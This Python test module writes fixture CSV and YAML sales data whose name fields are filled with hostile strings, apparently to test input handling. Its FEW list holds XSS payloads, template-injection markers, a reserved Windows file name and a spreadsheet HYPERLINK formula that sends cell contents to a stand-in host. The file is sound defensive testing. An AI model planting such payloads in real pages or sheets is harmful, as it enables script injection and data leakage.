"""A company of hostile names: whatever a cell may hold is the name of a rep, a team, a customer and more."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path

import yaml

from tests.attacks import ATTACKS
from tests.formulas import FORMULAS
from tests.naughty import BLANKS, strings

__all__ = ["FEW", "labels", "write_company", "write_plan"]

# What a page, a chart, a spreadsheet and the name of a file stumble over, in one name each.
FEW = [
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>${alert(1)}{{alert(1)}}',
    '=HYPERLINK("https://x.invalid/?"&A1,"open")',
    "CON.",
]


def labels() -> list[str]:
    """Give all strings, as a table holds them: naughty ones, markup that attacks, starts of formulas."""
    found = dict.fromkeys(one.strip(BLANKS) for one in (*FEW, *strings(), *ATTACKS, *FORMULAS))
    # A zero byte is refused by name when tables are loaded.
    return [one for one in found if one and "\0" not in one]


def write_company(folder: Path, names: Sequence[str], *, name: str) -> Path:
    """Write orders, reps and customers: the n-th of each, with all of its texts, is the n-th name.

    Every third one takes more back in 2026-Q3 than it sells, so that there are negative figures.
    """
    folder.mkdir()
    orders = [["order_id", "order_date", "customer_id", "amount", "rep_id", "refund_of"]]
    orders[0] += ["product", "product_line", "region", "channel"]
    for place, one in enumerate(names):
        for month in (4, 7, 8):
            day = f"2026-{month:02}-06"
            orders.append([f"{place}-{month}", day, one, 100 + place, place, "", *[one] * 4])
        if place % 3 == 0:
            refund = [f"{place}-r", "2026-08-20", one, -9_000, place, f"{place}-8"]
            orders.append([*refund, *[one] * 4])
    reps = [["rep_id", "name", "team", "manager", "role", "region"]]
    reps += [[place, *[one] * 5] for place, one in enumerate(names)]
    customers = [["customer_id", "name", "segment", "region", "channel"]]
    customers += [[one] * 5 for one in names]
    for table, rows in {"orders": orders, "reps": reps, "customers": customers}.items():
        with (folder / f"{table}.csv").open("w", encoding="utf-8", newline="") as opened:
            csv.writer(opened, quoting=csv.QUOTE_ALL).writerows(rows)
    told = {table: {"file": f"{table}.csv", "nulls": []} for table in ("orders", "reps", "customers")}
    settings = {"name": name, "currency": "USD", "tables": told}
    (folder / "dataset.yaml").write_text(yaml.safe_dump(settings), encoding="utf-8")
    return folder


def write_plan(path: Path, names: Sequence[str]) -> Path:
    """Write a plan of which goals, objectives and targets have these names, and scopes of them too.

    The first target is set for each rep.
    """

    def target(place: int, one: str) -> dict[str, object]:
        told = {"name": f"{one} {place}", "kpi": "revenue", "period": "2026-Q3", "set_on": "2026-06-15"}
        if place == 0:
            return told | {"per": "rep", "level": 300}
        return told | ({"scope": {"region": one}, "level": 100} if place % 2 else {"level": 1000})

    targets = [target(place, one) for place, one in enumerate(names)]
    first, last = names[0], names[-1]
    objective = {"name": last, "kpis": ["revenue"], "targets": targets}
    goals = [{"name": first, "description": last, "objectives": [objective]}]
    path.write_text(yaml.safe_dump({"goals": goals}), encoding="utf-8")
    return path
